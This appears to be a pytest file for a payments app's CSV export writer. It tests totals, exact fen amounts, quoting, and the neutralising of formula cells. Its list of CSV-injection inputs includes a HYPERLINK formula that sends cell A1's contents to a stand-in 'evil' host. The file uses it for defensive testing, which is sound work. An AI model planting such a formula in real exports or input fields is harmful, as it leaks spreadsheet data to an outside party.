"""CSV as a spreadsheet opens it, to the fen, and without a cell that it would run."""

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pytest

from app.exports.table import PAYMENTS, REFUNDS, Writer

ROW: dict[str, Any] = {
    "id": 12, "order_id": 7, "owner": "7", "provider": "ALIPAY", "method": "ALIPAY_PAGE", "merchant_account_id": 1,
    "subject": "茶", "out_trade_no": "SY1", "transaction_id": "2026112122001400000000000001", "status": "SUCCESSFUL",
    "amount_fen": 1230, "paid_amount_fen": 1230, "refunded_amount_fen": 0, "created_by": "7",
    "created_at": datetime(2026, 10, 31, 15, 59, 59, 999999, UTC), "paid_at": datetime(2026, 10, 31, 16, 0, tzinfo=UTC),
    "order_table": "public.orders", "version": 3,
}  # fmt: skip


def read(text: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.decode("utf-8-sig"), newline="")))


def test_a_file_has_a_head_rows_and_the_totals() -> None:
    writer = Writer(PAYMENTS)
    text = (
        writer.head() + writer.rows([ROW, ROW | {"id": 13, "paid_amount_fen": None, "paid_at": None}]) + writer.foot()
    )
    assert text.startswith(b"\xef\xbb\xbfid,order_id,owner,")
    assert text.count(b"\r\n") == text.count(b"\n") == 4
    assert text.decode("utf-8-sig").splitlines()[1:] == [
        "12,7,7,ALIPAY,ALIPAY_PAGE,1,茶,SY1,2026112122001400000000000001,SUCCESSFUL,12.30,12.30,0.00,7,"
        "2026-10-31 23:59:59,2026-11-01 00:00:00,public.orders",
        "13,7,7,ALIPAY,ALIPAY_PAGE,1,茶,SY1,2026112122001400000000000001,SUCCESSFUL,12.30,,0.00,7,"
        "2026-10-31 23:59:59,,public.orders",
        "total: 2 rows,,,,,,,,,,24.60,12.30,0.00,,,,",
    ]
    assert (writer.totals.rows, writer.totals.versions) == (2, 6)
    assert writer.totals.shown() == {"rows": 2, "amount": "24.60", "paid_amount": "12.30", "refunded_amount": "0.00"}


def test_an_empty_file_says_so() -> None:
    writer = Writer(REFUNDS)
    *_, total = read(writer.head() + writer.rows([]) + writer.foot())
    assert total[0] == "total: 0 rows"
    assert total[REFUNDS.columns.index("amount_fen")] == "0.00"


@pytest.mark.parametrize(
    "words",
    [
        '=HYPERLINK("http://evil/?"&A1,"x")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "＝",
        "=",
        "  @x",
        "＝1+1",
        "\u3000＋1",
        "\u00a0-1",
        " \t=1",
    ],
)
def test_what_a_spreadsheet_would_run_is_text(words: str) -> None:
    writer = Writer(PAYMENTS)
    _, row = read(writer.head() + writer.rows([ROW | {"subject": words, "owner": words}]))
    cell = row[PAYMENTS.columns.index("subject")]
    assert cell == f"'{words}"
    assert row[PAYMENTS.columns.index("owner")] == cell


@pytest.mark.parametrize("words", ["a,b", 'say "tea"', "two\r\nlines", "茶🍵", "'quoted", "tea - green", "1e5"])
def test_other_words_come_back_as_they_are(words: str) -> None:
    writer = Writer(PAYMENTS)
    _, row = read(writer.head() + writer.rows([ROW | {"subject": words}]))
    assert row[PAYMENTS.columns.index("subject")] == words


@pytest.mark.parametrize("fen", [1, 10, 99, 100, 1_000_000_001, 10**15 + 1])
def test_amounts_are_exact(fen: int) -> None:
    writer = Writer(PAYMENTS)
    _, first, _, total = read(writer.head() + writer.rows([ROW | {"amount_fen": fen}] * 2) + writer.foot())
    place = PAYMENTS.columns.index("amount_fen")
    assert int(first[place].replace(".", "")) == fen
    assert int(total[place].replace(".", "")) == 2 * fen
